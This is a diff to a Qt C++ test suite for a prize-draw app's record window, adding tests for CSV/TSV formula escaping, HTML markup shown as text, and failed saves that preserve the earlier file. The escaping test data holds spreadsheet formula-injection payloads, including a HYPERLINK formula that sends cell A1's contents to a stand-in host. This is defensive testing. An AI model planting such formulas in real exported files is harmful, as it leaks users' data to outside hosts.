@@ -32,6 +32,9 @@
 #include <QTemporaryDir>
 #include <QTest>
 
+#include <csignal>
+#include <sys/resource.h>
+
 namespace {
 QStringList prizeList()
 {
@@ -154,6 +157,9 @@ private Q_SLOTS:
     void copyAndSave();
     void exportQuoting_data();
     void exportQuoting();
+    void cellsShowMarkupAsText();
+    void failedSaveKeepsEarlierFile_data();
+    void failedSaveKeepsEarlierFile();
     void menuEntryAndLiveWindow();
     void unwritableJournalWarnsOnce();
     void closeBoxSaysWhetherTheNightIsKept_data();
@@ -475,18 +481,44 @@ void TestRecord::copyAndSave()
 void TestRecord::exportQuoting_data()
 {
     QTest::addColumn<QString>("prize");
+    QTest::addColumn<QString>("inCsv");
     QTest::addColumn<QString>("inTsv");
-    QTest::newRow("plain") << QStringLiteral("電視機") << QStringLiteral("電視機");
-    QTest::newRow("comma") << QStringLiteral("筆電,滑鼠") << QStringLiteral("筆電,滑鼠");
-    QTest::newRow("quotes") << QStringLiteral("\"特\"獎") << QStringLiteral("\"特\"獎");
-    QTest::newRow("tab") << QStringLiteral("A\tB") << QStringLiteral("A B");
-    QTest::newRow("blanks kept") << QStringLiteral("  獎 ") << QStringLiteral("  獎 ");
-    QTest::newRow("empty prize") << QString() << QString();
+    QTest::newRow("plain") << QStringLiteral("電視機") << QStringLiteral("電視機")
+                           << QStringLiteral("電視機");
+    QTest::newRow("comma") << QStringLiteral("筆電,滑鼠") << QStringLiteral("筆電,滑鼠")
+                           << QStringLiteral("筆電,滑鼠");
+    QTest::newRow("quotes") << QStringLiteral("\"特\"獎") << QStringLiteral("\"特\"獎")
+                            << QStringLiteral("\"特\"獎");
+    QTest::newRow("tab") << QStringLiteral("A\tB") << QStringLiteral("A\tB")
+                         << QStringLiteral("A B");
+    QTest::newRow("blanks kept") << QStringLiteral("  獎 ") << QStringLiteral("  獎 ")
+                                 << QStringLiteral("  獎 ");
+    QTest::newRow("empty prize") << QString() << QString() << QString();
+    // A spreadsheet would run these as formulas; an apostrophe in front makes them text.
+    const QString link = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"領獎\")");
+    QTest::newRow("link formula") << link << u'\'' + link << u'\'' + link;
+    QTest::newRow("sum") << QStringLiteral("=1+1") << QStringLiteral("'=1+1")
+                         << QStringLiteral("'=1+1");
+    QTest::newRow("plus") << QStringLiteral("+886 電話卡") << QStringLiteral("'+886 電話卡")
+                          << QStringLiteral("'+886 電話卡");
+    QTest::newRow("minus") << QStringLiteral("-5% 折價券") << QStringLiteral("'-5% 折價券")
+                           << QStringLiteral("'-5% 折價券");
+    QTest::newRow("at") << QStringLiteral("@SUM(A1)") << QStringLiteral("'@SUM(A1)")
+                        << QStringLiteral("'@SUM(A1)");
+    QTest::newRow("leading tab") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1")
+                                 << QStringLiteral("' =1+1");
+    QTest::newRow("leading CR") << QStringLiteral("\r=1+1") << QStringLiteral("'\r=1+1")
+                                << QStringLiteral("' =1+1");
+    QTest::newRow("equals inside")
+        << QStringLiteral("A=B") << QStringLiteral("A=B") << QStringLiteral("A=B");
+    QTest::newRow("full-width equals")
+        << QStringLiteral("＝1+1") << QStringLiteral("＝1+1") << QStringLiteral("＝1+1");
 }
 
 void TestRecord::exportQuoting()
 {
     QFETCH(QString, prize);
+    QFETCH(QString, inCsv);
     QFETCH(QString, inTsv);
     NightRecord r;
     Board before;
@@ -507,10 +539,91 @@ void TestRecord::exportQuoting()
                           QString()};
     const QList<QStringList> csv = parseCsv(QString::fromUtf8(r.toCsv().mid(3)));
     QCOMPARE(csv.size(), 2);
-    QCOMPARE(csv[1], row);
+    QStringList csvRow = row;
+    csvRow[4] = inCsv;
+    QCOMPARE(csv[1], csvRow);
     QStringList tsvRow = row;
     tsvRow[4] = inTsv;
     QCOMPARE(parseTsv(r.toTsv()).value(1), tsvRow);
+}
+
+// A prize is shown as written in the record too: "<img>" there loads no picture.
+void TestRecord::cellsShowMarkupAsText()
+{
+    const QString picture = m_dir->filePath(QStringLiteral("big.png"));
+    QImage big(400, 400, QImage::Format_RGB32);
+    big.fill(Qt::red);
+    QVERIFY(big.save(picture));
+    const QString prize = QStringLiteral("<b>大獎</b><img src=\"%1\">").arg(picture);
+    NightRecord r;
+    Board before;
+    Board after;
+    after.drawNo = 2;
+    after.stopCell = 3;
+    r.apply(BoardChange::Stop, 3, before, after, 1, m_now);
+    after.drawnGift = prize;
+    r.apply(BoardChange::Card, Board::Chance, before, after, 1, m_now);
+    RecordWindow win;
+    win.setRecord(r);
+    win.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&win));
+    QCOMPARE(win.table()->item(0, 4)->text(), prize);
+    const QSize cell = win.table()->sizeHintForIndex(win.table()->model()->index(0, 4));
+    QVERIFY(cell.height() < 100);
+    QVERIFY(cell.width() > QFontMetrics(win.table()->font()).horizontalAdvance(prize) / 2);
+}
+
+void TestRecord::failedSaveKeepsEarlierFile_data()
+{
+    QTest::addColumn<QString>("how"); // limit: the disk takes 100 bytes, then no more
+    QTest::addColumn<QString>("reason");
+    QTest::newRow("disk full half-way") << "limit" << QStringLiteral("File too large");
+    QTest::newRow("no such folder") << "folder" << QString();
+}
+
+// A record that did not reach the disk is never reported as saved, and an earlier file
+// of that name stays as it was.
+void TestRecord::failedSaveKeepsEarlierFile()
+{
+    QFETCH(QString, how);
+    QFETCH(QString, reason);
+    playNight();
+    m_controller->showRecord();
+    RecordWindow *win = m_controller->recordWindow();
+    QVERIFY(win);
+    const QString folder = m_dir->filePath(how == QLatin1String("folder") ? QStringLiteral("gone")
+                                                                          : QStringLiteral("out"));
+    const QString csv = folder + QStringLiteral("/紀錄.csv");
+    const QByteArray earlier("earlier record\r\n");
+    if (how == QLatin1String("limit")) {
+        QVERIFY(QDir().mkpath(folder));
+        writeFile(csv, earlier);
+    }
+    RecordWindow::setSaveNameProvider([&](QWidget *, const QString &) { return csv; });
+
+    // Past the limit a write fails as on a full disk (EFBIG rather than ENOSPC).
+    struct rlimit before;
+    QCOMPARE(::getrlimit(RLIMIT_FSIZE, &before), 0);
+    const auto oldSignal = std::signal(SIGXFSZ, SIG_IGN);
+    if (how == QLatin1String("limit")) {
+        struct rlimit small = before;
+        small.rlim_cur = 100;
+        QCOMPARE(::setrlimit(RLIMIT_FSIZE, &small), 0);
+    }
+    QTest::mouseClick(win->findChild<QPushButton *>(QStringLiteral("saveAs")), Qt::LeftButton);
+    ::setrlimit(RLIMIT_FSIZE, &before);
+    std::signal(SIGXFSZ, oldSignal);
+
+    QCOMPARE(m_refusals.size(), 1);
+    QVERIFY2(m_refusals[0].startsWith(QStringLiteral("無法儲存抽獎紀錄（") + reason),
+             qPrintable(m_refusals[0]));
+    QVERIFY(m_refusals[0].contains(QDir::toNativeSeparators(csv)));
+    if (how == QLatin1String("limit")) {
+        QCOMPARE(readFile(csv), earlier);
+        // Nothing half-written is left beside it.
+        QCOMPARE(QDir(folder).entryList(QDir::Files | QDir::Hidden),
+                 QStringList{QStringLiteral("紀錄.csv")});
+    }
 }
 
 void TestRecord::menuEntryAndLiveWindow()
